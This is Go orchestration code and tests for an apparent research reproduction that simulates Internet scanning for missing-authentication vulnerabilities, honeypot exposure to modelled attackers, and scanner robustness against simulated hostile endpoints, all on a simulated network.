	// Faults injects deterministic transient failures into the honeypot
	// network; bursts run off the study's simulated clock.
	Faults faults.Config
	// Resilience makes the modeled attackers retry their exploit requests
	// under the given policy.
	Resilience resilience.Policy
	// Telemetry, when non-nil, instruments the farm, the monitoring store
	// and the fault plan.
	Telemetry *telemetry.Registry
	// Obs hooks the run into the operations plane (Ready latches once the
	// farm is deployed).
	Obs ObsConfig
}

// RunHoneypots deploys the farm, replays the attacker plan over the
// simulated four weeks, and analyzes the resulting monitoring stream.
func RunHoneypots(ctx context.Context, cfg HoneypotConfig) (*HoneypotStudy, error) {
	if err := cfg.Faults.Validate(); err != nil {
		return nil, err
	}
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	sim := simtime.NewSim(HoneypotStart)
	net := simnet.New()
	store := &eslite.Store{}
	db := geo.Default()
	if cfg.Faults.Enabled() {
		plan := faults.NewPlan(cfg.Faults, sim)
		plan.Instrument(cfg.Telemetry)
		net.SetFaults(plan)
	}
	store.Instrument(cfg.Telemetry)

	farm := honeypot.NewFarm(net, sim, store)
	farm.Instrument(cfg.Telemetry)
	if err := farm.DeployAll(netip.MustParseAddr("10.30.0.10")); err != nil {
		return nil, err
	}
	cfg.Obs.Ready.Set()
	cfg.Telemetry.Event("study.honeypots.start",
		"pots", fmt.Sprint(len(farm.Honeypots())))
	farm.StartTicker(15*time.Minute, HoneypotStart.Add(attacker.StudyDuration))

	targets := attacker.TargetMap{}
	for _, pot := range farm.Honeypots() {
		targets[pot.App] = struct {
			IP   netip.Addr
			Port int
		}{pot.IP, pot.Port}
	}

	plan := attacker.BuildPlan(db, HoneypotStart, cfg.Seed)
	exec := &attacker.Executor{Net: net, Clock: sim, Targets: targets, Resilience: cfg.Resilience}
	exec.Schedule(plan)
	sim.Run()
	cfg.Telemetry.Event("study.honeypots.done",
		"events", fmt.Sprint(store.Len()))

	attacks := analysis.Uniquify(analysis.Sessionize(store))
	clusters := analysis.ClusterAttackers(attacks)
	return &HoneypotStudy{
		Start:    HoneypotStart,
		Net:      net,
		Geo:      db,
		Farm:     farm,
		Store:    store,
		Plan:     plan,
		Executor: exec,
		Attacks:  attacks,
		Clusters: clusters,
	}, nil
}

// DefenderStudy is the Section-5 experiment (RQ7).
type DefenderStudy struct {
	Scanner1 []secscan.Finding
	Scanner2 []secscan.Finding
}

// DefenderConfig parametrizes the defender study.
type DefenderConfig struct {
	// Faults injects deterministic transient failures into the scanned
	// honeypot network.
	Faults faults.Config
	// Resilience makes the commercial scanners retry their probes under
	// the given policy.
	Resilience resilience.Policy
	// Telemetry, when non-nil, instruments the farm, the monitoring store
	// and the fault plan.
	Telemetry *telemetry.Registry
	// Obs hooks the run into the operations plane (Ready latches once the
	// farm is deployed).
	Obs ObsConfig
}

// RunDefenders points both commercial scanners at a fresh honeypot farm
// and collects their findings.
func RunDefenders(ctx context.Context, cfg DefenderConfig) (*DefenderStudy, error) {
	if err := cfg.Faults.Validate(); err != nil {
		return nil, err
	}
	sim := simtime.NewSim(HoneypotStart)
	net := simnet.New()
	store := &eslite.Store{}
	if cfg.Faults.Enabled() {
		plan := faults.NewPlan(cfg.Faults, sim)
		plan.Instrument(cfg.Telemetry)
		net.SetFaults(plan)
	}
	store.Instrument(cfg.Telemetry)
	farm := honeypot.NewFarm(net, sim, store)
	farm.Instrument(cfg.Telemetry)
	if err := farm.DeployAll(netip.MustParseAddr("10.40.0.10")); err != nil {
		return nil, err
	}
	cfg.Obs.Ready.Set()
	var targets []tsunami.Target
	for _, pot := range farm.Honeypots() {
		targets = append(targets, tsunami.Target{
			IP: pot.IP, Port: pot.Port, Scheme: "http", App: pot.App,
		})
	}
	client := httpsim.NewClient(net, httpsim.ClientOptions{DisableKeepAlives: true})
	if cfg.Resilience.Enabled() {
		retr := resilience.New(cfg.Resilience, nil)
		retr.Instrument(cfg.Telemetry, "secscan")
		client.Transport = retr.RoundTripper(client.Transport)
	}
	s1 := secscan.Scanner1(client)
	s2 := secscan.Scanner2(client)
	return &DefenderStudy{
		Scanner1: s1.Scan(ctx, targets),
		Scanner2: s2.Scan(ctx, targets),
	}, nil
}

// SummaryRow is one row of Table 9, joining all experiments.
type SummaryRow struct {
	App        mav.App
	Category   mav.Category
	Default    mav.DefaultStatus
	Vulnerable int     // scan MAV count
	VulnRate   float64 // of exposed hosts
	Attacks    int
	S1, S2     bool // detected as a vulnerability by each scanner
}

// Table9 joins the scan, honeypot and defender studies.
func Table9(scan *ScanStudy, pots *HoneypotStudy, def *DefenderStudy) []SummaryRow {
	hosts := scan.Report.HostsPerApp()
	mavs := scan.Report.MAVsPerApp()
	attacksPerApp := map[mav.App]int{}
	for _, a := range pots.Attacks {
		attacksPerApp[a.App]++
	}
	detected := func(findings []secscan.Finding, app mav.App) bool {
		for _, f := range findings {
			if f.App == app && f.Severity == secscan.SeverityVulnerability {
				return true
			}
		}
		return false
	}
	var rows []SummaryRow
	for _, info := range mav.InScopeApps() {
		row := SummaryRow{
			App:        info.App,
			Category:   info.Category,
			Default:    info.Default,
			Vulnerable: mavs[info.App],
			Attacks:    attacksPerApp[info.App],
			S1:         detected(def.Scanner1, info.App),
			S2:         detected(def.Scanner2, info.App),
		}
		// Undo the stratified sampling with the generator's design weights
		// so the rate matches the full-population view of Table 3.
		if h := hosts[info.App]; h > 0 {
			m := mavs[info.App]
			sw, vw := scan.World.Weights(info.App)
			if est := float64(h-m)*sw + float64(m)*vw; est > 0 {
				row.VulnRate = float64(m) * vw / est
			}
		}
		rows = append(rows, row)
	}
	return rows
}
