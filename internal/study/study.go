// Package study drives the paper's experiments end to end and exposes
// their results in the shape of the published tables and figures. Each
// experiment builds only on public observations (scan results, fingerprint
// versions, honeypot monitoring) — ground truth from the population
// generator is used exclusively by tests.
package study

import (
	"context"
	"fmt"
	"net/netip"
	"time"

	"mavscan/internal/analysis"
	"mavscan/internal/apps"
	"mavscan/internal/attacker"
	"mavscan/internal/eslite"
	"mavscan/internal/faults"
	"mavscan/internal/geo"
	"mavscan/internal/honeypot"
	"mavscan/internal/httpsim"
	"mavscan/internal/mav"
	"mavscan/internal/observer"
	"mavscan/internal/population"
	"mavscan/internal/resilience"
	"mavscan/internal/scanner"
	"mavscan/internal/secscan"
	"mavscan/internal/simnet"
	"mavscan/internal/simtime"
	"mavscan/internal/telemetry"
	"mavscan/internal/tsunami"
)

// ScanStudy is the Section-3 experiment: the Internet-wide scan.
type ScanStudy struct {
	World  *population.World
	Report *scanner.Report
}

// ScanConfig bundles the generation and scan parameters.
type ScanConfig struct {
	Population population.Config
	Scan       scanner.Options
	// Faults injects deterministic transient failures into the simulated
	// network (zero value = off). The one-shot scan has no meaningful
	// timeline, so burst windows are inert here; see LongevityConfig.
	Faults faults.Config
	// Resilience retries the HTTP stages under the given policy (zero
	// value = single attempts, the paper's original semantics).
	Resilience resilience.Policy
	// Telemetry, when non-nil, instruments the whole pipeline.
	Telemetry *telemetry.Registry
}

// RunScan generates a world and runs the full three-stage pipeline on it.
func RunScan(ctx context.Context, cfg ScanConfig) (*ScanStudy, error) {
	if err := cfg.Faults.Validate(); err != nil {
		return nil, err
	}
	world, err := population.Generate(cfg.Population)
	if err != nil {
		return nil, fmt.Errorf("study: generating world: %w", err)
	}
	if len(cfg.Scan.Targets) == 0 {
		cfg.Scan.Targets = world.Geo.Prefixes()
	}
	if cfg.Faults.Enabled() {
		plan := faults.NewPlan(cfg.Faults, nil)
		plan.Instrument(cfg.Telemetry)
		world.Net.SetFaults(plan)
	}
	pipe := scanner.New(world.Net)
	pipe.SetResilience(cfg.Resilience, nil)
	pipe.Instrument(cfg.Telemetry)
	report, err := pipe.Run(ctx, cfg.Scan)
	if err != nil {
		return nil, fmt.Errorf("study: scanning: %w", err)
	}
	return &ScanStudy{World: world, Report: report}, nil
}

// ObserverTargets derives the longevity-study targets from the scan
// report's confirmed MAVs. The by-default grouping uses only public
// information: the fingerprinted version and the product's default
// history.
func (s *ScanStudy) ObserverTargets() []observer.Target {
	var out []observer.Target
	for _, obs := range s.Report.VulnerableObservations() {
		out = append(out, observer.Target{
			IP:             obs.IP,
			Port:           obs.Port,
			Scheme:         obs.Scheme,
			App:            obs.App,
			ByDefault:      obs.Version != "" && apps.InsecureDefault(obs.App, obs.Version),
			InitialVersion: obs.Version,
		})
	}
	return out
}

// LongevityConfig tunes the four-week observation (Figure 2).
type LongevityConfig struct {
	Seed     int64
	Interval time.Duration // default 3h
	Duration time.Duration // default 4 weeks
	// FingerprintEvery controls the version re-check cadence in ticks.
	FingerprintEvery int
	// Faults injects deterministic transient failures; burst windows run
	// off the study's simulated clock, so they land on the same ticks in
	// every run with the same seed.
	Faults faults.Config
	// Resilience retries each observer check under the given policy.
	Resilience resilience.Policy
	// OfflineAfter is the consecutive-failed-ticks threshold before a
	// target is reported offline (default 1, the paper's single-miss rule).
	OfflineAfter int
	// Telemetry, when non-nil, instruments the observer.
	Telemetry *telemetry.Registry
}

// RunLongevity schedules the churn model and the observer on a simulated
// clock and runs the four weeks to completion.
func RunLongevity(s *ScanStudy, cfg LongevityConfig) *observer.Result {
	if cfg.Interval == 0 {
		cfg.Interval = 3 * time.Hour
	}
	if cfg.Duration == 0 {
		cfg.Duration = 28 * 24 * time.Hour
	}
	start := population.ScanDate
	sim := simtime.NewSim(start)
	population.ScheduleChurn(sim, s.World, population.ChurnConfig{
		Seed:     cfg.Seed,
		Start:    start,
		Duration: cfg.Duration,
	})
	if cfg.Faults.Enabled() {
		plan := faults.NewPlan(cfg.Faults, sim)
		plan.Instrument(cfg.Telemetry)
		s.World.Net.SetFaults(plan)
	} else {
		s.World.Net.SetFaults(nil)
	}
	obs := observer.New(s.World.Net, sim)
	obs.FingerprintEvery = cfg.FingerprintEvery
	obs.Resilience = cfg.Resilience
	obs.OfflineAfter = cfg.OfflineAfter
	obs.Instrument(cfg.Telemetry)
	result := obs.Watch(s.ObserverTargets(), cfg.Interval, cfg.Duration)
	sim.Run()
	return result
}

// HoneypotStudy is the Section-4 experiment: 18 honeypots exposed for four
// weeks to the modeled attacker population.
type HoneypotStudy struct {
	Start    time.Time
	Net      *simnet.Network
	Geo      *geo.DB
	Farm     *honeypot.Farm
	Store    *eslite.Store
	Plan     *attacker.Plan
	Executor *attacker.Executor
	// Attacks are the sessionized, uniquified attacks recovered from the
	// monitoring stream.
	Attacks []analysis.Attack
	// Clusters are the inferred attackers.
	Clusters []analysis.AttackerCluster
}

// HoneypotStart is the paper's honeypot exposure date (June 09, 2021).
var HoneypotStart = time.Date(2021, 6, 9, 0, 0, 0, 0, time.UTC)

// RunHoneypots deploys the farm, replays the attacker plan over the
// simulated four weeks, and analyzes the resulting monitoring stream.
func RunHoneypots(seed int64) (*HoneypotStudy, error) {
	sim := simtime.NewSim(HoneypotStart)
	net := simnet.New()
	store := &eslite.Store{}
	db := geo.Default()

	farm := honeypot.NewFarm(net, sim, store)
	if err := farm.DeployAll(netip.MustParseAddr("10.30.0.10")); err != nil {
		return nil, err
	}
	farm.StartTicker(15*time.Minute, HoneypotStart.Add(attacker.StudyDuration))

	targets := attacker.TargetMap{}
	for _, pot := range farm.Honeypots() {
		targets[pot.App] = struct {
			IP   netip.Addr
			Port int
		}{pot.IP, pot.Port}
	}

	plan := attacker.BuildPlan(db, HoneypotStart, seed)
	exec := &attacker.Executor{Net: net, Clock: sim, Targets: targets}
	exec.Schedule(plan)
	sim.Run()

	attacks := analysis.Uniquify(analysis.Sessionize(store))
	clusters := analysis.ClusterAttackers(attacks)
	return &HoneypotStudy{
		Start:    HoneypotStart,
		Net:      net,
		Geo:      db,
		Farm:     farm,
		Store:    store,
		Plan:     plan,
		Executor: exec,
		Attacks:  attacks,
		Clusters: clusters,
	}, nil
}

// DefenderStudy is the Section-5 experiment (RQ7).
type DefenderStudy struct {
	Scanner1 []secscan.Finding
	Scanner2 []secscan.Finding
}

// RunDefenders points both commercial scanners at a fresh honeypot farm
// and collects their findings.
func RunDefenders() (*DefenderStudy, error) {
	sim := simtime.NewSim(HoneypotStart)
	net := simnet.New()
	store := &eslite.Store{}
	farm := honeypot.NewFarm(net, sim, store)
	if err := farm.DeployAll(netip.MustParseAddr("10.40.0.10")); err != nil {
		return nil, err
	}
	var targets []tsunami.Target
	for _, pot := range farm.Honeypots() {
		targets = append(targets, tsunami.Target{
			IP: pot.IP, Port: pot.Port, Scheme: "http", App: pot.App,
		})
	}
	client := httpsim.NewClient(net, httpsim.ClientOptions{DisableKeepAlives: true})
	s1 := secscan.Scanner1(client)
	s2 := secscan.Scanner2(client)
	ctx := context.Background()
	return &DefenderStudy{
		Scanner1: s1.Scan(ctx, targets),
		Scanner2: s2.Scan(ctx, targets),
	}, nil
}

// SummaryRow is one row of Table 9, joining all experiments.
type SummaryRow struct {
	App        mav.App
	Category   mav.Category
	Default    mav.DefaultStatus
	Vulnerable int     // scan MAV count
	VulnRate   float64 // of exposed hosts
	Attacks    int
	S1, S2     bool // detected as a vulnerability by each scanner
}

// Table9 joins the scan, honeypot and defender studies.
func Table9(scan *ScanStudy, pots *HoneypotStudy, def *DefenderStudy) []SummaryRow {
	hosts := scan.Report.HostsPerApp()
	mavs := scan.Report.MAVsPerApp()
	attacksPerApp := map[mav.App]int{}
	for _, a := range pots.Attacks {
		attacksPerApp[a.App]++
	}
	detected := func(findings []secscan.Finding, app mav.App) bool {
		for _, f := range findings {
			if f.App == app && f.Severity == secscan.SeverityVulnerability {
				return true
			}
		}
		return false
	}
	var rows []SummaryRow
	for _, info := range mav.InScopeApps() {
		row := SummaryRow{
			App:        info.App,
			Category:   info.Category,
			Default:    info.Default,
			Vulnerable: mavs[info.App],
			Attacks:    attacksPerApp[info.App],
			S1:         detected(def.Scanner1, info.App),
			S2:         detected(def.Scanner2, info.App),
		}
		// Undo the stratified sampling with the generator's design weights
		// so the rate matches the full-population view of Table 3.
		if h := hosts[info.App]; h > 0 {
			m := mavs[info.App]
			sw, vw := scan.World.Weights(info.App)
			if est := float64(h-m)*sw + float64(m)*vw; est > 0 {
				row.VulnRate = float64(m) * vw / est
			}
		}
		rows = append(rows, row)
	}
	return rows
}
