package study

import (
	"context"
	"encoding/json"
	"testing"

	"mavscan/internal/orchestrator"
	"mavscan/internal/population"
	"mavscan/internal/scanner"
)

// TestShardedStudyMatchesMonolithic checks the unified entry point: the
// same ScanConfig routed through the sharded orchestrator (Shards > 1 and
// a checkpoint store) produces a byte-identical report to the monolithic
// path.
func TestShardedStudyMatchesMonolithic(t *testing.T) {
	if testing.Short() {
		t.Skip("runs two scan studies")
	}
	base := ScanConfig{
		Population: population.Config{
			Seed: 9, HostScale: 8000, VulnScale: 8,
			BackgroundScale: -1, WildcardScale: -1,
		},
		Scan: scanner.Options{Seed: 9},
	}
	mono, err := RunScan(context.Background(), base)
	if err != nil {
		t.Fatal(err)
	}

	sharded := base
	sharded.Shards = 3
	sharded.Checkpoint = orchestrator.Checkpoint{Store: orchestrator.NewMemStore()}
	shard, err := RunScan(context.Background(), sharded)
	if err != nil {
		t.Fatal(err)
	}

	canon := func(rep *scanner.Report) string {
		cp := *rep
		cp.Stats.Elapsed = 0
		b, err := json.Marshal(&cp)
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	if canon(mono.Report) != canon(shard.Report) {
		t.Error("sharded study report differs from monolithic study report")
	}
}
