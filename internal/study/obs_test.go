package study

import (
	"bytes"
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"testing"
	"time"

	"mavscan/internal/mav"
	"mavscan/internal/obs"
	"mavscan/internal/orchestrator"
	"mavscan/internal/population"
	"mavscan/internal/simtime"
	"mavscan/internal/telemetry"
)

var obsT0 = time.Date(2021, 6, 3, 0, 0, 0, 0, time.UTC)

func obsTestPopulation() population.Config {
	return population.Config{
		Seed: 5, HostScale: 20000, VulnScale: 64,
		BackgroundScale: -1, WildcardScale: -1,
	}
}

// runInstrumentedScan runs one small orchestrated scan under the Sim clock
// and returns the registry, the tracker, and the report.
func runInstrumentedScan(t *testing.T) (*telemetry.Registry, *orchestrator.ProgressTracker, *ScanStudy) {
	t.Helper()
	reg := telemetry.New(simtime.NewSim(obsT0))
	tracker := orchestrator.NewProgressTracker()
	study, err := RunScan(context.Background(), ScanConfig{
		Population:  obsTestPopulation(),
		Shards:      2,
		Parallelism: 1, // single worker: deterministic event order
		Telemetry:   reg,
		Obs:         ObsConfig{Progress: tracker},
	})
	if err != nil {
		t.Fatal(err)
	}
	return reg, tracker, study
}

// TestScanEventsDeterministicUnderSim is the /events half of the PR's
// acceptance: two same-seed runs under the simulated clock produce
// byte-identical event JSONL and byte-identical reports.
func TestScanEventsDeterministicUnderSim(t *testing.T) {
	if testing.Short() {
		t.Skip("runs two full scans")
	}
	render := func() (string, []byte) {
		reg, _, study := runInstrumentedScan(t)
		var buf bytes.Buffer
		if err := reg.WriteEvents(&buf, 0, 0); err != nil {
			t.Fatal(err)
		}
		// Elapsed is wall-clock noise, not part of the result (the same
		// canonicalization the orchestrator's identity tests use).
		cp := *study.Report
		cp.Stats.Elapsed = 0
		report, err := json.Marshal(&cp)
		if err != nil {
			t.Fatal(err)
		}
		return buf.String(), report
	}
	eventsA, reportA := render()
	eventsB, reportB := render()
	if eventsA != eventsB {
		t.Errorf("same-seed /events JSONL differs:\n--- run A ---\n%s\n--- run B ---\n%s", eventsA, eventsB)
	}
	if !bytes.Equal(reportA, reportB) {
		t.Error("same-seed reports differ")
	}
	// The lifecycle skeleton must be present in order.
	for _, want := range []string{
		`"event":"study.scan.start"`,
		`"event":"orchestrator.start"`,
		`"event":"orchestrator.segment.done"`,
		`"event":"orchestrator.done"`,
		`"event":"study.scan.done"`,
	} {
		if !bytes.Contains([]byte(eventsA), []byte(want)) {
			t.Errorf("event log missing %s:\n%s", want, eventsA)
		}
	}
}

// TestProgressReconcilesWithReport is the /progress half of the PR's
// acceptance: after the run, the merged watermark is exactly 1 and the
// tracker's address totals reconcile with the report's probe count
// (every non-excluded address × every scan port probed exactly once).
func TestProgressReconcilesWithReport(t *testing.T) {
	if testing.Short() {
		t.Skip("runs a full scan")
	}
	reg, tracker, study := runInstrumentedScan(t)

	p := tracker.Snapshot()
	if !p.Started || !p.Done {
		t.Fatalf("run finished but snapshot flags = started=%v done=%v", p.Started, p.Done)
	}
	if p.Watermark != 1 {
		t.Fatalf("final watermark = %v, want exactly 1", p.Watermark)
	}
	if p.DoneAddrs != p.TotalAddrs || p.TotalAddrs == 0 {
		t.Fatalf("addrs = %d/%d, want equal and nonzero", p.DoneAddrs, p.TotalAddrs)
	}
	ports := uint64(len(mav.ScanPorts()))
	if got, want := p.DoneAddrs*ports, study.Report.Stats.Probed; got != want {
		t.Fatalf("tracker addrs × ports = %d, report probes = %d", got, want)
	}
	if p.SegmentsDone != p.SegmentsTotal || p.SegmentsTotal == 0 {
		t.Fatalf("segments = %d/%d", p.SegmentsDone, p.SegmentsTotal)
	}
	for _, s := range p.Shards {
		if s.Lag != 0 {
			t.Errorf("shard %d reports checkpoint lag %d after completion", s.Shard, s.Lag)
		}
	}

	// End to end through the plane: /progress must serve the same snapshot.
	h := obs.NewHandler(obs.Config{
		Telemetry: reg,
		Progress:  func() any { return tracker.Snapshot() },
	})
	req := httptest.NewRequest(http.MethodGet, "/progress", nil)
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, req)
	res := rec.Result()
	body, _ := io.ReadAll(res.Body)
	res.Body.Close()
	if res.StatusCode != http.StatusOK {
		t.Fatalf("/progress status = %d", res.StatusCode)
	}
	var served orchestrator.Progress
	if err := json.Unmarshal(body, &served); err != nil {
		t.Fatalf("/progress body is not a Progress: %v", err)
	}
	if served.Watermark != 1 || served.DoneAddrs != p.DoneAddrs {
		t.Fatalf("/progress served %+v, want watermark 1 and %d done addrs", served, p.DoneAddrs)
	}
}

// TestReadyFlagLatchesAfterGeneration pins the /readyz contract: the flag
// is unset until the world exists, set before the scan finishes the run.
func TestReadyFlagLatchesAfterGeneration(t *testing.T) {
	if testing.Short() {
		t.Skip("runs a full scan")
	}
	ready := &obs.Flag{}
	if ready.IsSet() {
		t.Fatal("flag set before the run")
	}
	_, err := RunScan(context.Background(), ScanConfig{
		Population: obsTestPopulation(),
		Obs:        ObsConfig{Ready: ready},
	})
	if err != nil {
		t.Fatal(err)
	}
	if !ready.IsSet() {
		t.Fatal("ready flag not latched by RunScan")
	}
}
