package study

import (
	"context"
	"encoding/json"
	"net/netip"
	"runtime"
	"testing"
	"time"

	"mavscan/internal/population"
	"mavscan/internal/scanner"
)

// canonBenign canonicalizes a report for the benign-subset identity.
// Elapsed is timing noise. The hostile /32s are probed-and-closed in the
// hostile-free run but skipped outright in the excluded run, so the
// (Probed, Excluded) split is folded into its invariant sum — everything
// else must match byte for byte.
func canonBenign(t *testing.T, rep *scanner.Report) string {
	t.Helper()
	cp := *rep
	cp.Stats.Elapsed = 0
	cp.Stats.Probed += cp.Stats.Excluded
	cp.Stats.Excluded = 0
	b, err := json.Marshal(&cp)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func canonApps(t *testing.T, apps []scanner.AppObservation) string {
	t.Helper()
	b, err := json.Marshal(apps)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// TestHostileWorldBenignSubsetIdentity is the adversarial-endpoints
// acceptance gate. Three runs share one seed:
//
//	R0 — HostileRate 0: the pre-adversary baseline.
//	R1 — HostileRate 0.2: weaponized hosts live in the population.
//	R2 — same hostile world, but every hostile /32 excluded from Stage I.
//
// R1 must finish (every archetype is terminated by some budget) and must
// report exactly R0's application observations — hostile endpoints never
// manufacture an app match and never suppress a real one. R2 must
// reproduce R0's entire report byte for byte: the hostile stratum is
// invisible to the benign world.
func TestHostileWorldBenignSubsetIdentity(t *testing.T) {
	if testing.Short() {
		t.Skip("runs three scan studies")
	}
	base := ScanConfig{
		Population: population.Config{
			Seed: 41, HostScale: 8000, VulnScale: 8,
			BackgroundScale: -1, WildcardScale: -1,
		},
		Scan:        scanner.Options{Seed: 41},
		HTTPTimeout: 500 * time.Millisecond,
	}
	r0, err := RunScan(context.Background(), base)
	if err != nil {
		t.Fatal(err)
	}

	hostileCfg := base
	hostileCfg.Population.HostileRate = 0.2
	r1, err := RunScan(context.Background(), hostileCfg)
	if err != nil {
		t.Fatal(err)
	}
	if r1.World.Hostile == 0 {
		t.Fatal("hostile world generated zero hostile hosts")
	}
	if got, want := canonApps(t, r1.Report.Apps), canonApps(t, r0.Report.Apps); got != want {
		t.Errorf("app observations differ between hostile and hostile-free scans:\n got %s\nwant %s", got, want)
	}

	var excl []netip.Prefix
	for _, h := range r1.World.HostileHosts() {
		excl = append(excl, netip.PrefixFrom(h.IP, 32))
	}
	r2cfg := hostileCfg
	r2cfg.Scan.Exclude = excl
	r2, err := RunScan(context.Background(), r2cfg)
	if err != nil {
		t.Fatal(err)
	}
	if r2.Report.Stats.Excluded == 0 {
		t.Fatal("exclusion list did not remove any probes")
	}
	if got, want := canonBenign(t, r2.Report), canonBenign(t, r0.Report); got != want {
		t.Error("benign subset of the hostile world differs from the hostile-free run")
	}
}

// TestHostilePopScale10Smoke is the CI adversarial gate: a 10×-scaled lazy
// world with 10% weaponized responders is sharded-scanned across a
// cross-section of every allocation, under a tight HTTP wall budget. The
// scan must complete with the resident host set bounded by the cache cap
// and the heap under the pinned budget — tarpits, bombs and mazes
// included.
func TestHostilePopScale10Smoke(t *testing.T) {
	if testing.Short() {
		t.Skip("probes >100k addresses against weaponized hosts")
	}
	const cacheHosts = 4096
	pop := population.Config{
		Seed: 42, PopScale: 10, Lazy: true, CacheHosts: cacheHosts,
		HostileRate: 0.1,
	}
	world, err := population.Generate(pop)
	if err != nil {
		t.Fatal(err)
	}
	if world.Hostile == 0 {
		t.Fatal("10% hostile world generated zero hostile hosts")
	}
	// Scan the first /18 of every allocation: a cross-section of every
	// stratum, hostile included, without a full-space walk.
	var targets []netip.Prefix
	for _, p := range world.Geo.Prefixes() {
		targets = append(targets, netip.PrefixFrom(p.Addr(), 18))
	}
	cfg := ScanConfig{
		Population:  pop,
		Scan:        scanner.Options{Seed: 42, Targets: targets, Ports: []int{80, 8080}},
		Shards:      4,
		HTTPTimeout: 150 * time.Millisecond,
	}
	scan, err := RunScan(context.Background(), cfg)
	if err != nil {
		t.Fatal(err)
	}
	if scan.Report.Stats.Probed < 100_000 {
		t.Fatalf("only %d probes issued, want ≥100k", scan.Report.Stats.Probed)
	}
	if got := scan.World.MaterializedHosts(); got > cacheHosts {
		t.Errorf("cache holds %d hosts, cap is %d — hostile lazy world is not bounded", got, cacheHosts)
	}
	runtime.GC()
	var ms runtime.MemStats
	runtime.ReadMemStats(&ms)
	const heapBudget = 512 << 20
	if ms.HeapAlloc > heapBudget {
		t.Errorf("heap %d MiB exceeds the %d MiB budget for a hostile cache-bounded scan",
			ms.HeapAlloc>>20, heapBudget>>20)
	}
}
