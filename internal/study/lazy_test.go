package study

import (
	"context"
	"encoding/json"
	"net/netip"
	"runtime"
	"testing"

	"mavscan/internal/orchestrator"
	"mavscan/internal/population"
	"mavscan/internal/scanner"
)

func canonReport(t *testing.T, rep *scanner.Report) string {
	t.Helper()
	cp := *rep
	cp.Stats.Elapsed = 0
	b, err := json.Marshal(&cp)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// TestLazyScanMatchesEager is the end-to-end contract of the lazy world:
// the same seed scanned against an up-front-materialized population and
// against an on-demand one must produce byte-identical reports — both
// monolithically and through the sharded orchestrator's merge.
func TestLazyScanMatchesEager(t *testing.T) {
	if testing.Short() {
		t.Skip("runs three scan studies")
	}
	base := ScanConfig{
		Population: population.Config{
			Seed: 31, HostScale: 8000, VulnScale: 8,
			BackgroundScale: -1, WildcardScale: -1,
		},
		Scan: scanner.Options{Seed: 31},
	}
	eager, err := RunScan(context.Background(), base)
	if err != nil {
		t.Fatal(err)
	}

	lazyCfg := base
	lazyCfg.Population.Lazy = true
	lazy, err := RunScan(context.Background(), lazyCfg)
	if err != nil {
		t.Fatal(err)
	}
	want := canonReport(t, eager.Report)
	if got := canonReport(t, lazy.Report); got != want {
		t.Error("lazy scan report differs from eager scan report")
	}

	sharded := lazyCfg
	sharded.Shards = 3
	sharded.Checkpoint = orchestrator.Checkpoint{Store: orchestrator.NewMemStore()}
	shard, err := RunScan(context.Background(), sharded)
	if err != nil {
		t.Fatal(err)
	}
	if got := canonReport(t, shard.Report); got != want {
		t.Error("sharded lazy report differs from eager monolithic report")
	}
}

// TestLazyLongevityMatchesFigure2Series runs the four-week observation on
// an eager and a lazy world with the same seeds: churn mutates pinned
// lazily-derived hosts in place, so every Figure-2 time series must come
// out identical.
func TestLazyLongevityMatchesFigure2Series(t *testing.T) {
	if testing.Short() {
		t.Skip("runs two longevity studies")
	}
	series := func(lazyMode bool) string {
		pop := population.Config{
			Seed: 32, HostScale: 40000, VulnScale: 10,
			BackgroundScale: -1, WildcardScale: -1,
			Lazy: lazyMode,
		}
		scan, err := RunScan(context.Background(), ScanConfig{
			Population: pop,
			Scan:       scanner.Options{Seed: 32},
		})
		if err != nil {
			t.Fatal(err)
		}
		res, err := RunLongevity(context.Background(), LongevityConfig{
			Scan:     scan,
			Seed:     32,
			Interval: 12 * 3600e9,
		})
		if err != nil {
			t.Fatal(err)
		}
		b, err := json.Marshal(map[string]any{
			"overall":     res.Overall,
			"byDefault":   res.ByDefault[true],
			"byMisconfig": res.ByDefault[false],
			"updated":     res.Updated,
		})
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	if eager, lazy := series(false), series(true); eager != lazy {
		t.Error("lazy longevity series differ from eager series")
	}
}

// TestLazyPopScale100ShardedSmoke is the CI memory-budget gate: a world
// scaled 100× beyond the paper's (≈170M addresses across /9 allocations)
// is generated in O(strata) time and sharded-scanned over a carved subset,
// while the resident host population stays bounded by the cache cap — not
// by the number of addresses probed.
func TestLazyPopScale100ShardedSmoke(t *testing.T) {
	if testing.Short() {
		t.Skip("probes >1M addresses")
	}
	const cacheHosts = 4096
	pop := population.Config{
		Seed: 33, PopScale: 100, Lazy: true, CacheHosts: cacheHosts,
	}
	world, err := population.Generate(pop)
	if err != nil {
		t.Fatal(err)
	}
	if world.TotalHosts() < 1_000_000 {
		t.Fatalf("100x world holds only %d hosts", world.TotalHosts())
	}
	// Scan the first /16 of every allocation: 20 windows, ~1.3M addresses,
	// a cross-section of every stratum.
	var targets []netip.Prefix
	for _, p := range world.Geo.Prefixes() {
		targets = append(targets, netip.PrefixFrom(p.Addr(), 16))
	}
	cfg := ScanConfig{
		Population: pop,
		Scan:       scanner.Options{Seed: 33, Targets: targets, Ports: []int{80, 8080}},
		Shards:     4,
	}
	scan, err := RunScan(context.Background(), cfg)
	if err != nil {
		t.Fatal(err)
	}
	if scan.Report.Stats.Probed < 2_000_000 {
		t.Fatalf("only %d probes issued, want ≥2M (1.3M addresses × 2 ports)", scan.Report.Stats.Probed)
	}
	if got := scan.World.MaterializedHosts(); got > cacheHosts {
		t.Errorf("cache holds %d hosts, cap is %d — lazy world is not bounded", got, cacheHosts)
	}
	runtime.GC()
	var ms runtime.MemStats
	runtime.ReadMemStats(&ms)
	const heapBudget = 512 << 20
	if ms.HeapAlloc > heapBudget {
		t.Errorf("heap %d MiB exceeds the %d MiB budget for a cache-bounded scan",
			ms.HeapAlloc>>20, heapBudget>>20)
	}
}
