package prefilter

import (
	"context"
	"fmt"
	"net/netip"
	"testing"
	"time"

	"mavscan/internal/adversary"
	"mavscan/internal/httpsim"
	"mavscan/internal/simnet"
)

// TestProbeMazeAcrossHostsAndSchemes walks a redirect maze whose every hop
// flips both the host and the scheme: plain-HTTP host A bounces to HTTPS
// host B and back, forever. The probe must terminate on its redirect cap
// and must not manufacture an application match out of the chain.
